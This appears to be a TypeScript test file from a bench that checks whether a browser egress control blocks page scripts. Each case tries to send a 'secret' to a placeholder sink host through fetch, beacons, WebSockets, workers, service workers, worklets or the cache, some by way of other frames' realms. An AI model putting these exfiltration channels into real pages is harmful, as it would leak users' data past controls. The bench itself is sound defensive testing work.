import type { Family } from '../attack.ts';
import { pageAttacks } from '../bench/page-attack.ts';
import { rewritingWorker } from '../bench/rewriting-worker.ts';

const worker = (code: string) => `<script>new Worker(URL.createObjectURL(new Blob([\`${code}\`])))</script>`;

/** What a page's scripts can send, from the page and from workers. */
export const egressScripts: Family = {
  group: 'egress',
  rows: {
    'NET-01': 'fetch by GET',
    'NET-02': 'fetch without CORS, with a secret in the body',
    'NET-17': 'a beacon',
    'NET-20': 'a fetch that is deferred until the page is gone',
    'NET-22': 'a stream of events',
    'NET-23': 'a WebSocket of the page',
    'NET-25': 'a WebSocket got back through another realm',
    'NET-26': 'a WebSocket of a worker',
    'NET-27': 'a WebSocket of a shared worker',
    'NET-30': 'fetch in a worker, and in a worker’s worker',
    'NET-31': 'scripts that a worker imports',
    'NET-33': 'fetches of a service worker as it installs',
    'NET-34': 'a service worker that turns reads into writes',
    'NET-35': 'a service worker registered through another realm',
    'NET-36': 'fetch and sync in the background, push',
    'NET-37': 'modules of worklets',
    'NET-38': 'the cache fetching for itself',
  },
  attacks: [
    rewritingWorker,
    ...pageAttacks([
      {
        id: 'NET-01a',
        technique: 'fetch by GET',
        page: '<script>fetch("SINK/x?secret").catch(() => {})</script>',
      },
      {
        id: 'NET-01b',
        technique: 'XMLHttpRequest',
        page: '<script>const x = new XMLHttpRequest(); x.open("GET", "SINK/x"); x.send()</script>',
      },
      {
        id: 'NET-01c',
        technique: 'synchronous XMLHttpRequest',
        page: '<script>const x = new XMLHttpRequest(); x.open("GET", "SINK/x", false); try { x.send() } catch {}</script>',
      },
      {
        id: 'NET-01d',
        technique: 'fetch that asks with a preflight first',
        page: '<script>fetch("SINK/x", { method: "PUT", headers: { "x-secret": "1" } }).catch(() => {})</script>',
      },
      {
        id: 'NET-01e',
        technique: 'fetch of the pristine function of a new frame',
        page: '<script>const f = document.createElement("iframe"); document.documentElement.append(f); f.contentWindow.fetch("SINK/x").catch(() => {})</script>',
      },
      {
        id: 'NET-02',
        technique: 'fetch without CORS, with a secret in the body',
        page: '<script>fetch("SINK/x", { method: "POST", mode: "no-cors", body: "secret" }).catch(() => {})</script>',
      },
      {
        id: 'NET-17a',
        technique: 'beacon',
        page: '<script>navigator.sendBeacon("SINK/b", "secret")</script>',
      },
      {
        id: 'NET-17b',
        technique: 'beacon as the page is hidden',
        page: '<script>addEventListener("pagehide", () => navigator.sendBeacon("SINK/b", "secret"))</script>',
        leaves: true,
        tries: 20,
      },
      {
        id: 'NET-17c',
        technique: 'fetch kept alive as the page unloads',
        page: '<script>addEventListener("pagehide", () => fetch("SINK/k", { method: "POST", mode: "no-cors", keepalive: true, body: "secret" }))</script>',
        leaves: true,
        tries: 20,
      },
      {
        id: 'NET-20',
        technique: 'deferred fetch, sent when the page is gone',
        page: '<script>fetchLater("SINK/later", { method: "POST", body: "secret", activateAfter: 100 })</script>',
        leaves: true,
        tries: 20,
      },
      { id: 'NET-22', technique: 'stream of events', page: '<script>new EventSource("SINK/e")</script>' },
      { id: 'NET-23a', technique: 'WebSocket', page: '<script>new WebSocket("ws://SINK_HOST/s")</script>' },
      {
        id: 'NET-23b',
        technique: 'WebSocketStream',
        page: '<script>new WebSocketStream("ws://SINK_HOST/s").opened.catch(() => {})</script>',
      },
      {
        id: 'NET-25a',
        technique: 'WebSocket of a new frame’s realm',
        page: '<script>const f = document.createElement("iframe"); document.documentElement.append(f); new f.contentWindow.WebSocket("ws://SINK_HOST/s")</script>',
      },
      {
        id: 'NET-25b',
        technique: 'WebSocket through the constructor of its prototype',
        page: '<script>const { prototype } = WebSocket; new prototype.constructor("ws://SINK_HOST/s")</script>',
      },
      {
        id: 'NET-26a',
        technique: 'WebSocket in a blob worker',
        page: worker('new WebSocket("ws://SINK_HOST/s")'),
      },
      {
        id: 'NET-26b',
        technique: 'WebSocket in a worker of the allowed host',
        page: '<script>new Worker("/w.js")</script>',
        files: { '/w.js': 'new WebSocket("ws://SINK_HOST/s")' },
      },
      {
        id: 'NET-27a',
        technique: 'WebSocket in a shared worker',
        page: '<script>for (let n = 0; n < 20; n++) new SharedWorker("/w.js", String(n))</script>',
        files: { '/w.js': 'new WebSocket("ws://SINK_HOST/s")' },
        tries: 20,
        inOnePage: true,
      },
      {
        id: 'NET-27b',
        technique: 'fetch in a shared worker',
        page: '<script>for (let n = 0; n < 20; n++) new SharedWorker("/w.js", String(n))</script>',
        files: { '/w.js': 'fetch("SINK/x").catch(() => {})' },
        tries: 20,
        inOnePage: true,
      },
      { id: 'NET-30a', technique: 'fetch in a blob worker', page: worker('fetch("SINK/x").catch(() => {})') },
      {
        id: 'NET-30b',
        technique: 'fetch in a worker that a worker made',
        page: '<script>new Worker("/w.js")</script>',
        files: { '/w.js': 'new Worker("/v.js")', '/v.js': 'fetch("SINK/x").catch(() => {})' },
      },
      {
        id: 'NET-30c',
        technique: 'beacon and images have no worker; an XMLHttpRequest has',
        page: worker('const x = new XMLHttpRequest(); x.open("POST", "SINK/x"); x.send("secret")'),
      },
      { id: 'NET-31a', technique: 'script imported by a worker', page: worker('importScripts("SINK/x.js")') },
      {
        id: 'NET-31b',
        technique: 'module imported by a module worker',
        page: '<script>new Worker("/w.js", { type: "module" })</script>',
        files: { '/w.js': 'import "SINK/x.js"' },
      },
      {
        id: 'NET-33a',
        technique: 'service worker that fetches as it installs',
        page: '<script>navigator.serviceWorker.register("/sw.js").catch(() => {})</script>',
        files: {
          '/sw.js': 'addEventListener("install", (e) => e.waitUntil(fetch("SINK/x", { mode: "no-cors" })))',
        },
      },
      {
        id: 'NET-33b',
        technique: 'service worker that fetches as it activates',
        page: '<script>navigator.serviceWorker.register("/sw.js").catch(() => {})</script>',
        files: {
          '/sw.js':
            'oninstall = () => skipWaiting(); onactivate = (e) => e.waitUntil(fetch("SINK/x", { mode: "no-cors" }))',
        },
      },
      {
        id: 'NET-35a',
        technique: 'service worker registered through the prototype',
        page: '<script>ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, "/sw.js").catch(() => {})</script>',
        files: { '/sw.js': 'oninstall = (e) => e.waitUntil(fetch("SINK/x", { mode: "no-cors" }))' },
      },
      {
        id: 'NET-35b',
        technique: 'service worker registered through a new frame’s realm',
        page: '<script>const f = document.createElement("iframe"); f.src = "/gone"; f.onload = () => f.contentWindow.navigator.serviceWorker.register("/sw.js").catch(() => {}); document.documentElement.append(f)</script>',
        files: { '/sw.js': 'oninstall = (e) => e.waitUntil(fetch("SINK/x", { mode: "no-cors" }))' },
      },
      {
        id: 'NET-37a',
        technique: 'module of an audio worklet',
        page: '<script>new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule("SINK/x.js").catch(() => {})</script>',
      },
      {
        id: 'NET-37b',
        technique: 'module of a paint worklet',
        page: '<script>CSS.paintWorklet.addModule("SINK/x.js").catch(() => {})</script>',
      },
      {
        id: 'NET-38',
        technique: 'the cache told to fetch',
        page: '<script>caches.open("c").then((c) => c.add(new Request("SINK/x", { mode: "no-cors" }))).catch(() => {})</script>',
      },
    ]),
  ],
  elsewhere: {
    'NET-36': {
      why: 'a headless shell has no background fetch, sync or push: the control does not fire',
      instead: 'NET-33 and NET-35: no service worker is installed that could ask for them',
    },
  },
};
